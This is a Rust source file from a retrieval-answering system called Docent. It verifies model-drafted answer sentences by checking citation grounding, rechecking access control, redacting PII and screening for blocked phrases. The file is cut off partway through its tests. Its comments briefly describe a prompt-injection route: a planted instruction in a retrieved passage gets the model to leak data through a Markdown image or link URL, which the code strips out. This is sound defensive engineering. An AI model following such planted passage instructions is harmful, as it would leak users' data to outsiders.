//! Verification of answer sentences, whoever wrote them.
//!
//! Every sentence an answerer drafts passes through [`Verifier::check`] before it leaves:
//! citation markers that point to no given passage are dropped; the sentence must be supported by
//! the passages it cites (the grounding check), else Docent looks for the given passage that does
//! support it and cites that one instead ("reattributed"), else the sentence is removed (or, with
//! the response scope `allow_general_knowledge`, kept and marked uncited, without a citation);
//! every cited document is rechecked against the caller's current access; the text is
//! PII-redacted. Citations are numbered in order of first use, so pieces can be streamed as they
//! are verified and the citation list sent after them. A generated sentence that claims
//! nothing (a question, the question echoed back, the model saying the passages do not answer)
//! is dropped before any of this: its words match the passages, so it would pass as a cited
//! claim, and an answer made only of such sentences is "not found". A model's links are
//! removed first ([`strip_links`]): Markdown images and links, HTML tags, and any URL that is
//! not written in one of its passages. A client that renders Markdown would fetch an image
//! at once, and a passage's planted instruction could have the model put what it read into
//! the URL. Footnote numbers that are not Docent's markers (a passage's own `[2]`, as
//! MediaWiki writes them, copied into a sentence) are removed from every sentence
//! ([`strip_footnotes`]): a reader would take them for Docent's citations.

use std::sync::LazyLock;

use regex::Regex;

use std::collections::{HashMap, HashSet};

use crate::acl::AclScope;
use crate::answer::{AnswerSentence, Citation, citation_for};
use crate::guardrail::{Guardrails, PiiFindings, Verdict, readable, support_fraction};
use crate::index::Backend;
use crate::retrieve::Hit;

/// How long a passage found readable counts as such for the check of a model's sentences
/// against every passage it was given ([`Verifier::may_read_all_given`]).
const RECHECK: std::time::Duration = std::time::Duration::from_millis(500);

/// Whether generated text no passage supports may be shown (as uncited) or is removed.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum ResponseScope {
    /// Answer only from documents: unsupported sentences are removed.
    #[default]
    EnterpriseOnly,
    /// Unsupported generated sentences are kept, marked uncited, never with a citation.
    AllowGeneralKnowledge,
}

impl ResponseScope {
    pub fn parse(s: &str) -> Option<Self> {
        match s {
            "enterprise_only" => Some(Self::EnterpriseOnly),
            "allow_general_knowledge" => Some(Self::AllowGeneralKnowledge),
            _ => None,
        }
    }
}

/// A sentence as an answerer drafted it: `cites` are 1-based passage numbers as the answerer
/// wrote them (possibly out of range).
#[derive(Debug, Clone, PartialEq)]
pub struct Draft {
    pub text: String,
    pub cites: Vec<usize>,
}

/// What [`Verifier::finish`] hands back.
#[derive(Debug)]
pub struct Finished {
    /// The citations, PII-redacted; a refused one keeps its place but nothing of it.
    pub citations: Vec<Citation>,
    /// The verdicts of everything removed or changed.
    pub verdicts: Vec<Verdict>,
    /// How many citations the ACL checks stopped, during the answer and at its end.
    pub acl_dropped: u32,
    /// The indexes of the citations the last check refused (the caller can no longer read
    /// their documents), in order.
    pub refused: Vec<usize>,
    /// A model wrote the answer and the caller can no longer read a passage it was given,
    /// cited or not: any of its sentences may carry that passage's words.
    pub given_unreadable: bool,
}

/// A verified sentence: citations index into [`Verifier::finish`]'s list.
#[derive(Debug, Clone, PartialEq)]
pub struct Verified {
    pub sentence: AnswerSentence,
    pub uncited: bool,
}

pub struct Verifier<'a> {
    passages: &'a [Hit],
    guardrails: &'a Guardrails,
    index: &'a dyn Backend,
    scope: &'a AclScope,
    analyze: &'a (dyn Fn(&str) -> Vec<String> + Sync),
    response_scope: ResponseScope,
    citations: Vec<Citation>,
    by_passage: HashMap<usize, usize>,
    unreadable: Vec<bool>,
    /// When each passage was last found readable by [`Self::may_read_all_given`].
    read_at: Vec<Option<std::time::Instant>>,
    seen: HashSet<String>,
    pii: PiiFindings,
    removed: u32,
    bad_markers: u32,
    reattributed: u32,
    uncited: u32,
    acl_dropped: u32,
    /// Links and markup removed from generated sentences ([`strip_links`]).
    links_removed: u32,
    /// Sentences removed for naming a blocked phrase, and the phrases.
    blocked: u32,
    blocked_rules: std::collections::BTreeSet<String>,
    kept: usize,
    /// The last sentences kept ([`PHRASE_SPAN`] at most), as they were screened: the answer
    /// joins sentences, and a blocked phrase may span several of them (one word per line of a
    /// list; session 43's review: only two were read together).
    last_kept: std::collections::VecDeque<String>,
    /// The sentences are a model's: those that claim nothing are dropped.
    generated: bool,
}

/// How many kept sentences the next one is read with for blocked phrases: a phrase of up to
/// this many words and one, written one word per sentence or line, is still seen.
pub(crate) const PHRASE_SPAN: usize = 8;

impl<'a> Verifier<'a> {
    pub fn new(
        passages: &'a [Hit],
        guardrails: &'a Guardrails,
        index: &'a dyn Backend,
        scope: &'a AclScope,
        analyze: &'a (dyn Fn(&str) -> Vec<String> + Sync),
        response_scope: ResponseScope,
    ) -> Self {
        Self {
            passages,
            guardrails,
            index,
            scope,
            analyze,
            response_scope,
            citations: Vec::new(),
            by_passage: HashMap::new(),
            unreadable: vec![false; passages.len()],
            read_at: vec![None; passages.len()],
            seen: HashSet::new(),
            pii: PiiFindings::default(),
            removed: 0,
            bad_markers: 0,
            reattributed: 0,
            uncited: 0,
            acl_dropped: 0,
            links_removed: 0,
            blocked: 0,
            blocked_rules: std::collections::BTreeSet::new(),
            kept: 0,
            last_kept: std::collections::VecDeque::new(),
            generated: false,
        }
    }

    /// The sentences are a model's (see [`claims_nothing`]); an extractive answerer's are
    /// passage sentences it chose.
    pub fn generated(mut self, generated: bool) -> Self {
        self.generated = generated;
        self
    }

    /// Remembers a kept sentence for the phrase check of the next ones.
    fn keep_recent(&mut self, screened: String) {
        if self.last_kept.len() == PHRASE_SPAN {
            self.last_kept.pop_front();
        }
        self.last_kept.push_back(screened);
    }

    /// Whether the caller may still read passage `i`'s document. The recheck runs for every
    /// sentence (a document table lookup): access can be revoked, or the document withdrawn,
    /// while the answer is written. Only a refusal is remembered.
    fn may_read(&mut self, i: usize) -> bool {
        if self.unreadable[i] {
            return false;
        }
        let h = &self.passages[i];
        let ok =
            self.scope.permits(&h.chunk.acl) && readable(self.index, self.scope, &h.chunk.doc_key);
        if !ok {
            self.acl_dropped += 1;
            self.unreadable[i] = true;
        }
        ok
    }

    /// Whether the caller may still read every passage given, each looked up again at most
    /// every [`RECHECK`] (a review: a lookup per passage and sentence was a query each on
    /// Milvus). [`Self::finish`] looks each up once more.
    fn may_read_all_given(&mut self) -> bool {
        let now = std::time::Instant::now();
        (0..self.passages.len()).all(|i| {
            if !self.unreadable[i] && self.read_at[i].is_some_and(|t| now - t < RECHECK) {
                return true;
            }
            let ok = self.may_read(i);
            if ok {
                self.read_at[i] = Some(now);
            }
            ok
        })
    }

    /// The number of sentences kept so far.
    pub fn kept(&self) -> usize {
        self.kept
    }

    /// Whether the caller lost access to a passage given: one a sentence cited while the
    /// answer was written, or (for a model's answer) any passage it read, looked up now.
    pub fn lost_access(&mut self) -> bool {
        self.acl_dropped > 0
            || self.generated && !(0..self.passages.len()).all(|i| self.may_read(i))
    }

    /// Verifies one drafted sentence; `None` when it is removed (or repeats an earlier one).
    pub fn check(&mut self, draft: Draft) -> Option<Verified> {
        let mut text = crate::parse::collapse_ws(draft.text.trim());
        if self.generated {
            let (stripped, n) = strip_links(&text, self.passages);
            if n > 0 {
                self.links_removed += n;
                text = crate::parse::collapse_ws(stripped.trim());
            }
        }
        // Every answerer's sentences, the extractive answerer's passage sentences included:
        // a passage's own footnote numbers would read as Docent's citations. A passage's
        // sentence is still checked as the passage writes it (taking "推計される[2]が" out
        // joins two runs of letters the passage does not hold joined).
        let as_written = (!self.generated).then(|| text.clone());
        if let Some(unnumbered) = strip_footnotes(&text) {
            text = unnumbered;
        }
        let grounded = as_written.as_deref().unwrap_or(&text).to_string();
        if !text.chars().any(char::is_alphanumeric) || self.generated && claims_nothing(&text) {
            return None;
        }
        // What may not be asked about may not be answered either (a passage can name it), nor
        // spelled across two sentences of the answer ("… is Project. Falcon ships …").
        let joined = (!self.last_kept.is_empty()).then(|| {
            let mut s = self
                .last_kept
                .iter()
                .fold(String::new(), |s, k| s + k + " ");
            s.push_str(&text);
            s
        });
        if let Some(rule) = [Some(&text), joined.as_ref()]
            .into_iter()
            .flatten()
            .find_map(|t| {
                self.guardrails
                    .blocked_phrase_in(self.scope.principal_set(), t)
            })
        {
            self.blocked += 1;
            self.blocked_rules.insert(rule.to_string());
            return None;
        }
        let screened = text.clone();
        let mut cited: Vec<usize> = Vec::new();
        for n in draft.cites {
            match n.checked_sub(1).filter(|&i| i < self.passages.len()) {
                Some(i) if !cited.contains(&i) => cited.push(i),
                Some(_) => {}
                None => self.bad_markers += 1,
            }
        }
        // A sentence citing a passage the caller can no longer read (access revoked while the
        // answer was written) is removed whole: re-cited or kept as general knowledge, its text
        // would still be that passage's.
        let before = cited.len();
        cited.retain(|&i| self.may_read(i));
        if cited.len() < before {
            self.removed += 1;
            return None;
        }
        // A model's sentence may carry the words of any passage it was given, cited or not: it
        // stands only while the caller may read them all (a review: only those it cited were
        // checked, so a sentence citing [1] could carry a revoked [2]'s facts).
        if self.generated && !self.may_read_all_given() {
            self.removed += 1;
            return None;
        }
        let analyze = self.analyze;
        let min = self.guardrails.config().grounding.min_support;
        let texts: Vec<&str> = cited
            .iter()
            .map(|&i| self.passages[i].chunk.text.as_str())
            .collect();
        let mut support: Vec<usize> = Vec::new();
        if !cited.is_empty() && self.guardrails.supports(&grounded, &texts, analyze) {
            // Keep the cited passages that support the sentence on their own; when only
            // their union does, all of them.
            support = cited
                .iter()
                .copied()
                .filter(|&i| {
                    support_fraction(&grounded, &self.passages[i].chunk.text, analyze) >= min
                })
                .collect();
            if support.is_empty() {
                support = cited;
            }
        } else {
            // Missing or wrong markers: the given passage that best supports the sentence.
            let mut best: Option<(usize, f32)> = None;
            for i in 0..self.passages.len() {
                if !self.may_read(i) {
                    continue;
                }
                let f = support_fraction(&grounded, &self.passages[i].chunk.text, analyze);
                if f > best.map_or(0.0, |b| b.1) {
                    best = Some((i, f));
                }
            }
            if let Some((i, f)) = best
                && (f >= min || !self.guardrails.config().grounding.enabled && f > 0.0)
            {
                support.push(i);
                self.reattributed += 1;
            }
        }
        if !self.seen.insert(text.to_lowercase()) {
            return None;
        }
        self.guardrails
            .redact_sentence(self.scope.principal_set(), &mut text, &mut self.pii);
        if support.is_empty() {
            // General knowledge only while the model read nothing the caller cannot read now:
            // else its unmarked sentence may be a revoked passage's. Nor when a passage it was
            // given says otherwise about the same thing (another number, a negation reversed):
            // the sentence is then wrong, not general (a review: "40 days [1]" against a
            // passage saying 25 was kept uncited).
            // (Only while grounding is on and asks for support: with it off, a cited
            // sentence is kept whatever it says, and an uncited one is too.)
            let contradicted = self.guardrails.config().grounding.enabled
                && min > 0.0
                && self.passages.iter().any(|p| {
                    crate::guardrail::contradicted_by(&grounded, &p.chunk.text, min, analyze)
                });
            if self.response_scope == ResponseScope::AllowGeneralKnowledge
                && (0..self.passages.len()).all(|i| self.may_read(i))
                && !contradicted
            {
                self.uncited += 1;
                self.kept += 1;
                self.keep_recent(screened);
                return Some(Verified {
                    sentence: AnswerSentence {
                        text,
                        citations: Vec::new(),
                    },
                    uncited: true,
                });
            }
            self.removed += 1;
            return None;
        }
        let citations = support
            .into_iter()
            .map(|i| {
                *self.by_passage.entry(i).or_insert_with(|| {
                    self.citations.push(citation_for(&self.passages[i]));
                    self.citations.len() - 1
                })
            })
            .collect();
        self.kept += 1;
        self.keep_recent(screened);
        Some(Verified {
            sentence: AnswerSentence { text, citations },
            uncited: false,
        })
    }

    /// The verified citations (PII-redacted) and the verdicts of everything removed or changed.
    /// Also returns how many citations the ACL recheck stopped.
    ///
    /// The passages cited so far, each with its citation's index.
    pub fn cited(&self) -> Vec<(usize, usize)> {
        self.by_passage.iter().map(|(&p, &c)| (p, c)).collect()
    }

    /// Each cited document is checked once more: one the caller can no longer read (access
    /// revoked, or the document withdrawn, while a model wrote on) keeps its place, since
    /// sentences already sent number their citations, but nothing of it: no key, title, uri,
    /// headings or snippet.
    pub fn finish(mut self) -> Finished {
        let cited: Vec<(usize, usize)> = self.by_passage.iter().map(|(&p, &c)| (p, c)).collect();
        let mut refused = Vec::new();
        for (p, c) in cited {
            if !self.may_read(p) {
                refused.push(c);
                let c = &mut self.citations[c];
                *c = Citation {
                    access_key: std::mem::take(&mut c.access_key),
                    ..Citation::default()
                };
            }
        }
        let given_unreadable =
            self.generated && !(0..self.passages.len()).all(|i| self.may_read(i));
        for c in &mut self.citations {
            self.guardrails
                .redact_citation(self.scope.principal_set(), c, &mut self.pii);
        }
        let mut verdicts = Vec::new();
        let mut push = |action: &'static str, code: &'static str, count: u32| {
            if count > 0 {
                verdicts.push(Verdict {
                    stage: "grounding",
                    action,
                    code,
                    rule: "support".into(),
                    message: String::new(),
                    count,
                });
            }
        };
        push("remove", "UNGROUNDED_SENTENCE", self.removed);
        push("drop", "UNKNOWN_CITATION_MARKER", self.bad_markers);
        push("reattribute", "CITATION_REATTRIBUTED", self.reattributed);
        push("uncited", "UNCITED_SENTENCE", self.uncited);
        if self.links_removed > 0 {
            verdicts.push(Verdict {
                stage: "grounding",
                action: "strip",
                code: "LINK_REMOVED",
                rule: "links".into(),
                message: String::new(),
                count: self.links_removed,
            });
        }
        if self.blocked > 0 {
            verdicts.push(Verdict {
                stage: "blocked_phrases",
                action: "remove",
                code: "BLOCKED_PHRASE_IN_ANSWER",
                rule: self.blocked_rules.into_iter().collect::<Vec<_>>().join(","),
                message: String::new(),
                count: self.blocked,
            });
        }
        verdicts.extend(self.pii.verdict());
        refused.sort_unstable();
        Finished {
            citations: self.citations,
            verdicts,
            acl_dropped: self.acl_dropped,
            refused,
            given_unreadable,
        }
    }
}

/// Splits streamed text into sentences as it arrives, with the `[n]` markers that follow each.
/// A sentence ends at `.`, `!` or `?` followed by whitespace (closing quotes, brackets and
/// emphasis, then markers, right after the punctuation belong to the sentence before; not the
/// `.` of a list item's number), at a Chinese or Japanese full stop, exclamation or question
/// mark, or at a line break.
#[derive(Debug, Default)]
pub struct SentenceSplitter {
    buf: String,
    /// Where the next scan of `buf` starts: nothing before it can end a sentence (a scan from
    /// the start at every piece made a long text without a full stop cost its square).
    scan_from: usize,
}

impl SentenceSplitter {
    /// Adds streamed text; returns the sentences it completed.
    pub fn push(&mut self, text: &str) -> Vec<Draft> {
        self.buf.push_str(text);
        let mut out = Vec::new();
        loop {
            match sentence_end(&self.buf, self.scan_from) {
                Ok(end) => {
                    let rest = self.buf.split_off(end);
                    let s = std::mem::replace(&mut self.buf, rest);
                    self.scan_from = 0;
                    if let Some(d) = parse_draft(&s) {
                        out.push(d);
                    }
                }
                Err(resume) => {
                    self.scan_from = resume;
                    break;
                }
            }
        }
        out
    }

    /// The rest of the text at the end of the stream.
    pub fn finish(&mut self) -> Option<Draft> {
        let s = std::mem::take(&mut self.buf);
        self.scan_from = 0;
        parse_draft(&s)
    }

    /// [`Self::finish`] for a stream that may have been `cut` by the token limit: then the rest
    /// is a sentence only if it ends like one (`.`, `!` or `?`, before any markers or quotes).
    pub fn finish_cut(&mut self, cut: bool) -> Option<Draft> {
        if cut && !ends_a_sentence(&self.buf) {
            self.buf.clear();
            return None;
        }
        self.finish()
    }
}

/// Whether `s` ends as a sentence does: `.`, `!` or `?`, then only markers, quotes, brackets
/// or whitespace.
fn ends_a_sentence(s: &str) -> bool {
    let mut rest = s.trim_end();
    loop {
        let trimmed = rest.trim_end_matches([
            '"', '\'', ')', '*', '_', '\u{201D}', '\u{2019}', '\u{300D}', '\u{300F}', '\u{FF09}',
            ' ',
        ]);
        // A trailing `[1]` or `[1, 2]` marker.
        let unmarked = match trimmed.strip_suffix(']').and_then(|t| t.rsplit_once('[')) {
            Some((before, inside))
                if inside
                    .chars()
                    .all(|c| c.is_ascii_digit() || c == ',' || c == ' ') =>
            {
                before
            }
            _ => trimmed,
        };
        if unmarked.len() == rest.len() {
            break;
        }
        rest = unmarked;
    }
    rest.ends_with(['.', '!', '?', '\u{3002}', '\u{FF01}', '\u{FF1F}'])
        || OTHER_ENDS.iter().any(|e| rest.ends_with(e))
}

/// Byte offset just past the first complete sentence (and its trailing markers) in `s`, when
/// enough has arrived to know it is complete, scanning from `from` (an earlier scan's `Err`);
/// else `Err` with where a scan after more text must start (the first place whose reading
/// waits for it).
fn sentence_end(s: &str, from: usize) -> Result<usize, usize> {
    let b = s.as_bytes();
    let mut i = from;
    while i < b.len() {
        let c = b[i];
        // A line ends a sentence: list items and lines the model wrote without a full stop
        // are claims of their own, each checked against what it cites (found by a review: a
        // list without full stops was checked as one claim, an invented item riding on the
        // support of the others).
        if c == b'\n' {
            return Ok(i + 1);
        }
        let wide = FULL_WIDTH_ENDS
            .iter()
            .find(|p| b[i..].starts_with(p.as_bytes()));
        let other = (c >= 0x80)
            .then(|| OTHER_ENDS.iter().find(|p| b[i..].starts_with(p.as_bytes())))
            .flatten();
        if matches!(c, b'.' | b'!' | b'?') && !list_number(b, i)
            || wide.is_some()
            || other.is_some()
        {
            // Closing quotes, brackets and emphasis may follow the punctuation, as
            // [`ends_a_sentence`] reads them (found by a review: "**Parking is free.**
            // Contractors get an allowance [1]." was one claim, the unsupported second
            // sentence riding on the support of the first).
            let mut j = i + wide.or(other).map_or(1, |p| p.len());
            let closers = s[j..]
                .chars()
                .take_while(|c| CLOSERS.contains(c))
                .map(char::len_utf8)
                .sum::<usize>();
            j += closers;
            // Markers may follow: "… level two. [1] Next", "… level two.** [1] Next".
            let mut markers = 0;
            loop {
                let k = skip_spaces(b, j);
                match marker_len(&b[k..]) {
                    Some(n) => j = k + n,
                    None => break,
                }
                markers += 1;
                // Enough: a sentence cites a few passages; more are not waited for (a model
                // writing markers one piece at a time had each piece scan them all again).
                if markers == MAX_TRAILING_MARKERS {
                    return Ok(j);
                }
            }
            let k = skip_spaces(b, j);
            if b.get(k) == Some(&b'[') && partial_marker(&b[k..]) {
                return Err(i); // "… noon. [2" — the marker is still arriving
            }
            match b.get(j) {
                None => return Err(i), // the next piece may bring a marker or more text
                // Chinese and Japanese put no space after a full stop.
                Some(_) if wide.is_some() => return Ok(j),
                // A marker, then the next sentence with no space ("free.[1]Contractors"), or
                // a no-break space after the punctuation: the sentence has ended (a review:
                // both sentences were checked as one claim).
                Some(c) if markers > 0 && c.is_ascii_uppercase() => return Ok(j),
                // Any other space (a no-break, thin or ideographic space, a line separator).
                Some(c)
                    if !c.is_ascii() && s[j..].chars().next().is_some_and(char::is_whitespace) =>
                {
                    return Ok(j);
                }
                Some(c) if c.is_ascii_whitespace() => {
                    // Not the end of a decimal or an abbreviation-like "e.g." inside words.
                    let prev_digit = i > 0 && b[i - 1].is_ascii_digit();
                    let next_digit = b.get(j + 1).is_some_and(u8::is_ascii_digit);
                    // After a closing bracket or quote, a lowercase word goes on the same
                    // sentence: "(ID, passport, etc.) to the office" (found by a review).
                    let next = s[skip_spaces(b, j)..].chars().next();
                    if closers > 0 && next.is_none() {
                        return Err(i); // the next piece tells
                    }
                    let goes_on = closers > 0 && next.is_some_and(char::is_lowercase);
                    if !(goes_on || prev_digit && next_digit) {
                        return Ok(j);
                    }
                }
                Some(_) => {}
            }
            i = j.max(i + 1);
            continue;
        }
        i += 1;
    }
    Err(b.len())
}

/// The most markers read after a sentence's punctuation as that sentence's.
const MAX_TRAILING_MARKERS: usize = 16;

/// What may close a sentence after its punctuation: quotes, brackets, Markdown emphasis
/// (`**Bold.**`, `_Italic._`) and the closing quotes and parenthesis of Chinese and Japanese.
const CLOSERS: [char; 11] = [
    '"', '\'', '\u{201D}', '\u{2019}', ')', ']', '*', '_', '\u{300D}', '\u{300F}', '\u{FF09}',
];

/// Full stops, exclamation and question marks of Chinese and Japanese text (the ideographic
/// full stop and the full-width marks; not the full-width `．`, a decimal point in `３．５`).
const FULL_WIDTH_ENDS: [&str; 3] = ["\u{3002}", "\u{FF01}", "\u{FF1F}"];

/// Sentence ends of other scripts, followed by a space as `.` is: the Devanagari danda and
/// double danda, the Arabic question mark and full stop, the Armenian full stop, and the
/// ellipsis (a review: an answer in those scripts was verified as one claim).
const OTHER_ENDS: [&str; 6] = [
    "\u{0964}", "\u{0965}", "\u{061F}", "\u{06D4}", "\u{0589}", "\u{2026}",
];

/// The most bytes a list number's line holds before its `.`: emphasis and three digits.
const LIST_NUMBER_BYTES: usize = 8;

/// Whether the `.` at `i` numbers a list item: only one to three digits between it and the
/// start of its line ("1. Open the form"), Markdown emphasis aside ("**1.** Open the form":
/// the `**` after the `.` would otherwise end a sentence "1."). Looks back
/// [`LIST_NUMBER_BYTES`] at most (a review: it scanned to the line's start at every `.`, so a
/// hostile line of "a.a.a…" cost time quadratic in its length).
fn list_number(b: &[u8], i: usize) -> bool {
    let window = i.saturating_sub(LIST_NUMBER_BYTES);
    let start = match b[window..i].iter().rposition(|&c| c == b'\n') {
        Some(n) => window + n + 1,
        None if window == 0 => 0,
        None => return false,
    };
    let line = &b[start..i];
    let digits = &line[line.iter().take_while(|c| matches!(c, b'*' | b'_')).count()..];
    b[i] == b'.' && (1..=3).contains(&digits.len()) && digits.iter().all(u8::is_ascii_digit)
}

fn skip_spaces(b: &[u8], mut j: usize) -> usize {
    while b.get(j) == Some(&b' ') {
        j += 1;
    }
    j
}

/// Whether `b` (starting at `[`) could still become a marker: no `]` yet, short, only digits,
/// commas, dashes and spaces so far.
fn partial_marker(b: &[u8]) -> bool {
    b.len() < 24
        && !b.contains(&b']')
        && b[1..]
            .iter()
            .all(|c| c.is_ascii_digit() || matches!(c, b',' | b' ' | b'-'))
}

/// Length of a citation marker `[n]` or `[n, m]` at the start of `b`.
fn marker_len(b: &[u8]) -> Option<usize> {
    if b.first() != Some(&b'[') {
        return None;
    }
    let close = b.iter().take(24).position(|&c| c == b']')?;
    let inner = &b[1..close];
    (!inner.is_empty()
        && inner
            .iter()
            .all(|c| c.is_ascii_digit() || matches!(c, b',' | b' ' | b'-'))
        && inner.iter().any(u8::is_ascii_digit))
    .then_some(close + 1)
}

/// A drafted sentence: its text without markers and the marker numbers.
pub fn parse_draft(s: &str) -> Option<Draft> {
    let mut text = String::with_capacity(s.len());
    let mut cites = Vec::new();
    let b = s.as_bytes();
    let mut i = 0;
    let mut last = 0;
    while i < b.len() {
        if b[i] == b'['
            && let Some(n) = marker_len(&b[i..])
        {
            text.push_str(&s[last..i]);
            for part in s[i + 1..i + n - 1].split([',', ' ', '-']) {
                if let Ok(v) = part.trim().parse::<usize>() {
                    cites.push(v);
                }
            }
            i += n;
            last = i;
            continue;
        }
        i += 1;
    }
    text.push_str(&s[last..]);
    // Markdown emphasis and list bullets are not content.
    let text = text
        .trim()
        .trim_start_matches(['-', '*', '•'])
        .replace("**", "");
    let text = crate::parse::collapse_ws(text.trim());
    // "… level two ." after removing a marker before the full stop.
    let text = text
        .replace(" .", ".")
        .replace(" ,", ",")
        .replace(" ?", "?")
        .replace(" !", "!");
    (!text.is_empty()).then_some(Draft { text, cites })
}

/// Openings of a model saying that the passages do not answer (English; lowercase).
const DOES_NOT_KNOW: &[&str] = &[
    "i don't know",
    "i do not know",
    "i'm not sure",
    "i am not sure",
    "i cannot find",
    "i can't find",
    "i could not find",
    "i couldn't find",
    "i cannot answer",
    "i can't answer",
    "i'm sorry",
    "sorry,",
];

/// Phrases by which a model says the passages it was given lack the answer (a document
/// sentence rarely names "the passages" or "the provided context").
const NOT_IN_PASSAGES: &[&str] = &[
    "passages do not",
    "passages don't",
    "passage does not",
    "passage doesn't",
    "provided passages",
    "passages provided",
    "given passages",
    "provided context",
    "given context",
    "the context does not",
    "the context doesn't",
    "not mentioned in the passages",
    "not mentioned in the documents",
];

/// Markdown reference definitions (a line `[a]: url "title"`), Markdown images (`![alt](url)`,
/// `![alt][a]`), Markdown links (`[text](url)`, `[text][a]`), HTML tags and bare URLs (with a
/// scheme, `www.`, or scheme-relative: `//host/path`).
static MARKUP: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"(?ix)
        (?P<definition> (?m:^) [\t\x20]{0,3} \[[^\]]+\]: [\t\x20]* \S+
            (?: [\t\x20]+ (?: "[^"]*" | '[^']*' | \([^)]*\) ) )? [\t\x20]* (?m:$) )
      | (?P<image> !\[[^\]]*\] (?: \([^)]*\) | \[[^\]]*\] ) )
      | (?P<link> \[(?P<label>[^\]]*)\]\((?P<target>[^)]*)\) )
      | (?P<reference> \[(?P<shown>[^\]]*)\]\[[^\]]*\] )
      | (?P<tag> </?[a-z][^>]*> | <(?:https?|ftp|mailto|data):[^>]*> )
      | (?P<url> \b(?:(?:https?|ftp)://|www\.|data:)[^\s<>()\[\]]+ | //[\w-][^\s<>()\[\]]* )"#,
    )
    .expect("a valid markup pattern")
});

/// `text` without the links and markup a model may have written: images, tags and reference
/// definitions removed, a link reduced to its text, and a URL kept only where one of
/// `passages` holds it as written (a page's own link, not one the model built). A reference
/// link (`[text][a]`) loses its reference whatever it names: its definition, the line that
/// holds the URL, is removed (a client that renders Markdown would fetch `![x][a]` from a
/// definition `[a]: //host/p.png` as it fetches an inline image). Returns the text and how many
/// were removed.
pub fn strip_links(text: &str, passages: &[Hit]) -> (String, u32) {
    if !text.contains(['[', '<', ':', '.', '/']) {
        return (text.to_string(), 0);
    }
    let given = |url: &str| {
        let url = url.trim_end_matches(['.', ',', ';', ':', '!', '?', '\'', '"']);
        !url.is_empty() && passages.iter().any(|h| h.chunk.text.contains(url))
    };
    let mut removed = 0;
    let out = MARKUP.replace_all(text, |c: &regex::Captures<'_>| {
        if let Some(url) = c.name("url") {
            // "//" between two words or numbers ("12//2024") is no scheme-relative URL.
            let joined = url.as_str().starts_with("//")
                && text[..url.start()]
                    .chars()
                    .next_back()
                    .is_some_and(char::is_alphanumeric);
            if joined || given(url.as_str()) {
                return url.as_str().to_string();
            }
        } else if let Some(shown) = c.name("shown") {
            removed += 1;
            return shown.as_str().to_string();
        } else if let Some(label) = c.name("label") {
            let target = c.name("target").map_or("", |t| t.as_str().trim());
            if given(target) {
                return format!("{} ({target})", label.as_str());
            }
            removed += 1;
            return label.as_str().to_string();
        }
        removed += 1;
        String::new()
    });
    (out.into_owned(), removed)
}

/// Footnote numbers that are not Docent's markers: a passage's own (`[2]`, `[2, 3]`, as
/// MediaWiki writes them), Markdown footnotes (`[^2]`), and the markers other tools write
/// (`[Passage 2]`, `【2】`, `【4:0†source】`, `［2］`); [`strip_footnotes`] takes out those it may.
static FOOTNOTE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?ix)
        (?P<square> \[ \s* (?: \^ [-\w]{1,24}
                   | (?: (?:passages?|sources?|refs?|notes?) \s* )? [1-9]\d{0,2} (?: \s* [-,;–] \s* [1-9]\d{0,2} )* )
            \s* \] )
          | 【 \s* (?: (?:passages?|sources?) \s* )? [1-9]\d{0,2} (?: \s* [-,;:–] \s* \d{1,3} )*
            (?: † [^】]{0,40} )? \s* 】
          | ［ \s* [1-9]\d{0,2} (?: \s* [-,;–] \s* [1-9]\d{0,2} )* \s* ］",
    )
    .expect("a valid footnote pattern")
});

/// `text` without the footnote numbers [`FOOTNOTE`] finds, `None` when it has none. A reader
/// takes a `[2]` in a sentence for Docent's citation 2: a passage's own footnote marker
/// ("Parking is free[2] for staff") survives into an extractive sentence, copied as it is,
/// and into a model's, and would point at whatever Docent cites second. Docent's own markers
/// are parsed out of a model's text before ([`parse_draft`]); an extractive sentence's
/// citations are never in its text. Square brackets count only attached to what precedes them
/// (`free[2]`, `free.[2]`) or opening the text: after a space they may be the sentence's own
/// words ("press [1] for HR", "in [1, 10]"). Numbers start at 1: `[0, 1]` is an interval. The
/// lenticular and full-width forms are citation markup wherever they stand.
fn strip_footnotes(text: &str) -> Option<String> {
    let mut out = String::with_capacity(text.len());
    let mut last = 0;
    for m in FOOTNOTE.captures_iter(text) {
        let whole = m.get(0).expect("the whole match");
        let attached = whole.start() == 0
            || !text[..whole.start()]
                .chars()
                .next_back()
                .is_some_and(char::is_whitespace);
        if m.name("square").is_some() && !attached {
            continue;
        }
        out.push_str(text[last..whole.start()].trim_end());
        last = whole.end();
    }
    if last == 0 && out.is_empty() {
        return None;
    }
    out.push_str(&text[last..]);
    Some(crate::parse::collapse_ws(out.trim()))
}

/// Whether a drafted sentence claims nothing: a question (the question echoed back), or the
/// model saying the passages do not answer.
fn claims_nothing(text: &str) -> bool {
    if text.trim_end_matches(['"', '\'', ')', '*']).ends_with('?') {
        return true;
    }
    // Curly apostrophes as straight ones ("I can’t find").
    let lower = text.to_lowercase().replace(['\u{2019}', '\u{2018}'], "'");
    DOES_NOT_KNOW.iter().any(|p| lower.starts_with(p))
        || NOT_IN_PASSAGES.iter().any(|p| lower.contains(p))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// An index holding document `s:d0` (readable by `group:all`), and that document's one
    /// passage `text`, with the same ACL.
    fn one_readable_passage(text: &str) -> (tempfile::TempDir, crate::index::Index, Vec<Hit>) {
        use crate::index::suite::{DIM, doc};
        let dir = tempfile::tempdir().unwrap();
        let index = crate::index::Index::open(dir.path(), "verify-model", DIM).unwrap();
        index.upsert(doc("s", 0, 1, &["group:all"], &[])).unwrap();
        index.commit(std::collections::BTreeMap::new()).unwrap();
        let mut hit = crate::retrieve::test_hit("s:d0", text, 0.9);
        hit.chunk.acl =
            docent_connector_api::Acl::new([docent_connector_api::Principal::group("all")], []);
        (dir, index, vec![hit])
    }

    /// A verifier of `passages` with the tests' analyzer, for enterprise-only answers.
    fn verifier_for<'a>(
        passages: &'a [Hit],
        g: &'a Guardrails,
        index: &'a dyn Backend,
        scope: &'a AclScope,
        generated: bool,
    ) -> Verifier<'a> {
        Verifier::new(
            passages,
            g,
            index,
            scope,
            &words,
            ResponseScope::EnterpriseOnly,
        )
        .generated(generated)
    }

    /// Lowercased alphanumeric words: the tests' analyzer.
    fn words(s: &str) -> Vec<String> {
        s.split(|c: char| !c.is_alphanumeric())
            .filter(|w| !w.is_empty())
            .map(str::to_lowercase)
            .collect()
    }

    #[test]
    fn questions_and_admissions_of_ignorance_claim_nothing() {
        for s in [
